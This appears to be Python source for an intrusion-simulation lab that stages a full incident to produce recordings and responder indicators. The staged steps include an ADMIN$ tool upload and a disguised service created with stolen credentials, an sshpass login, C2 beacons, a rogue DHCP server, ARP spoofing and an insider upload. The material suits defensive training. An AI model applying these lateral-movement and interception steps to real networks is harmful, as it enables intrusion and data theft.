"""The full incident: the demonstration's steps, and what a longer stay brings.

From app-01 the intruder tries the file server as real ones do (administrative share, a service for
the tool, then a login when Samba refuses the service); a PC that fell earlier calls a second
server; on the office segment pc-042 answers DHCP and stands between a PC and its gateway. Beside
the intrusion, and no part of it, an insider sends the share to a private cloud account.
"""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from lab import clients, intrusion, night_deeds, templates, world
from lab.cage import STATE
from lab.crew import inside, python, run
from lab.insider import Insider
from lab.internet import tool
from lab.intrusion import SECOND, STOLEN, ZERO, Intrusion
from lab.services import start_dnsmasq
from lab.steps import on, open_entry
from lab.truth import Claim

FILES, GUEST, OTHER = world.FILE_SERVER, world.GUEST, world.OTHER_VICTIM
SPIED = world.BY_NAME["pc-058"]
LOGIN = f"{world.WORKGROUP}\\{STOLEN}%{world.PASSWORDS[STOLEN]}"
CONF = f"--configfile={STATE}/conf/smb.conf"
SMB = (CONF, "--use-kerberos=off", "-n", SECOND.name.upper(), "-U", LOGIN)
SERVICE, REMOTE_NAME = "WinUpdSync", "winupd.exe"
IMAGE = f"%SystemRoot%\\Temp\\{REMOTE_NAME}"

SCHEDULE = {
    "second-server": 0.02,
    "lure": 0.04,
    "download": 0.08,
    "beacon": 0.085,
    "scan": 0.15,
    "guess": 0.21,
    "copy": 0.31,
    "second-beacon": 0.32,
    "collect": 0.36,
    "admin-share": 0.42,
    "service": 0.425,
    "hop": 0.44,
    "file-server-beacon": 0.445,
    "rogue-dhcp": 0.50,
    "arp-spoof": 0.58,
    "tunnel": 0.70,
    "upload": 0.88,
}
"""When each step begins, as a share of the recording's time."""


class FullIntrusion(Intrusion):
    """The intruder's steps in order; the insider and the bystanders act beside them."""

    schedule = SCHEDULE

    def run(self) -> None:
        """Everybody's deeds; whoever fails, fails the recording."""
        with ThreadPoolExecutor(max_workers=2) as pool:
            beside = [
                pool.submit(Insider(self.diary, self.lasts_s, self.rng.randrange(1 << 30)).run),
                pool.submit(night_deeds.run, self.diary, self.lasts_s),
            ]
            super().run()
            for deeds in beside:
                deeds.result()

    def second_server(self) -> None:
        """A PC that fell before calls elsewhere: same implant, same rhythm, nothing else shared."""
        site, port = world.SECOND_C2_SITE, world.SECOND_C2_PORT
        self.implant("second-server", OTHER, site, port=port, asked=(OTHER, intrusion.RESOLVER))

    def admin_share(self) -> None:
        """The tool goes to the file server's administrative share."""
        entry = open_entry("admin-share", [_smb()], SECOND.name, [FILES.name])
        entry.user = STOLEN
        entry.detail = {"share": "ADMIN$", "path": f"Temp\\{REMOTE_NAME}", "account": STOLEN}
        with self.diary.action(entry):
            script = f"cd Temp; put {tool()} {REMOTE_NAME}; ls"
            on(SECOND, "smbclient", f"//{FILES.ip}/ADMIN$", *SMB, "-c", script)
            time.sleep(1.0)

    def service(self) -> None:
        """A service is asked for and started over svcctl; what the server answers is its own."""
        entry = open_entry("service", [_smb()], SECOND.name, [FILES.name])
        entry.user = STOLEN
        net = ("net", "rpc", "service")
        where = ("-S", FILES.ip, *SMB)
        with self.diary.action(entry):
            said = [
                _answer("create", *net, "create", SERVICE, "Update Synchronisation", IMAGE, *where),
                _answer("start", *net, "start", SERVICE, *where),
            ]
        entry.detail = {"service": SERVICE, "image_path": IMAGE, "account": STOLEN}
        entry.detail |= {"answers": said, "outcome": "refused" if all(said) else "created"}

    def hop(self) -> None:
        """What the service did not give, a login gives."""
        claim = Claim(src=SECOND.ip, dst=FILES.ip, port=22, protocol="tcp")
        entry = open_entry("hop", [claim], SECOND.name, [FILES.name])
        entry.user, entry.detail = STOLEN, {"account": STOLEN}
        password = ("sshpass", "-p", world.PASSWORDS[STOLEN])
        log_in = (*password, "ssh", *clients.SSH_OPTIONS, f"{STOLEN}@{FILES.ip}")
        with self.diary.action(entry):
            on(SECOND, *log_in, "id; uname -a; df -h")
            time.sleep(1.0)

    def file_server_beacon(self) -> None:
        """The file server calls the first home."""
        self.implant("file-server-beacon", FILES, world.C2_SITE, asked=(FILES,))

    def rogue_dhcp(self) -> None:
        """A visitor's laptop asks for an address, and the fallen PC answers first."""
        claims = [
            Claim(src=ZERO.ip, port=68, protocol="udp"),
            Claim(src=GUEST.ip, dst=ZERO.ip, port=53, protocol="udp"),
        ]
        entry = open_entry("rogue-dhcp", claims, ZERO.name, [GUEST.name])
        entry.detail = {"server": ZERO.ip, "router": ZERO.ip, "resolver": ZERO.ip}
        with self.diary.action(entry):
            _pass_on()
            values = {"resolver": intrusion.RESOLVER.ip, "address": GUEST.ip, "itself": ZERO.ip}
            start_dnsmasq(self.crew, "rogue", ZERO.name, templates.place("rogue.conf", **values))
            time.sleep(2.0)
            entry.detail["lease"] = self._visit(max(20.0, min(120.0, 0.05 * self.lasts_s)))
            self.crew.end("rogue")

    def _visit(self, lasts_s: float) -> str:
        """The visitor: boots, gets a lease, reads a little, leaves. Returns the lease."""
        ends = time.monotonic() + lasts_s
        script = str(STATE / "conf" / "dhcp-event.sh")
        says = ["-x", f"hostname:{GUEST.name.upper()}", "-V", "MSFT 5.0"]
        argv = ["udhcpc", "-f", "-i", "eth0", "-s", script, *says]
        self.crew.start("dhcp-guest", GUEST.name, argv)
        lease = _lease(self.crew.logs / "dhcp-guest.log")
        if f"{GUEST.ip} router {ZERO.ip} resolver {ZERO.ip}" not in lease:
            raise RuntimeError(f"the visitor's lease is not the stranger's: {lease}")
        Path(f"/etc/netns/{GUEST.name}/resolv.conf").write_text(f"nameserver {ZERO.ip}\n")
        while time.monotonic() < ends:
            for page in ("http://www.tidetables.example", "https://docs.instrumentwiki.example"):
                url = f"{page}/page{self.rng.randrange(8)}.html"
                on(GUEST, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", url)
            time.sleep(self.rng.uniform(4.0, 12.0))
        self.crew.end("dhcp-guest")
        run("ip", "-n", GUEST.name, "link", "set", "eth0", "down")
        return lease

    def arp_spoof(self) -> None:
        """pc-042 between pc-058 and the gateway: what goes by is really passed on."""
        entry = open_entry("arp-spoof", [], ZERO.name, [SPIED.name])
        entry.detail = {"claims": [SPIED.ip, SPIED.segment.gateway4], "mac": ZERO.mac}
        lasts_s = max(25.0, min(220.0, 0.09 * self.lasts_s))
        with self.diary.action(entry):
            _pass_on()
            said = on(ZERO, *python("lab.arp_spoof", SPIED.name, f"{lasts_s:.0f}"))
        entry.detail["replies"] = int(said)


def _smb() -> Claim:
    return Claim(src=SECOND.ip, dst=FILES.ip, port=445, protocol="tcp")


def _answer(what: str, *argv: str) -> str:
    """What a call was answered with, empty when it was done; refusals are part of the story."""
    try:
        on(SECOND, *argv)
    except RuntimeError as refusal:
        return f"{what}: {str(refusal).rsplit(': ', 1)[-1]}"
    return ""


def _pass_on() -> None:
    """Forward packets that are not for us, without telling their sender of a shorter way."""
    settings = ["net.ipv4.ip_forward=1"]
    settings += [f"net.ipv4.conf.{which}.send_redirects=0" for which in ("all", "default", "eth0")]
    run(*inside(ZERO.name, ["sysctl", "-q", "-w", *settings]))


def _lease(log: Path) -> str:
    for _ in range(150):
        said = [line for line in log.read_text().splitlines() if line.startswith("lease: ")]
        if said:
            return said[0].removeprefix("lease: ")
        time.sleep(0.1)
    raise RuntimeError("the visitor got no lease; its log is dhcp-guest.log")


def indicators() -> list[dict[str, str]]:
    """What a responder should end up with: the demonstration's, and the second server's."""
    site = world.SECOND_C2_SITE
    more = [
        {"type": kind, "value": value, "role": "command_and_control"}
        for kind, value in (("ipv4", site.ip), ("domain", site.name))
    ]
    return [*intrusion.indicators(), *more]
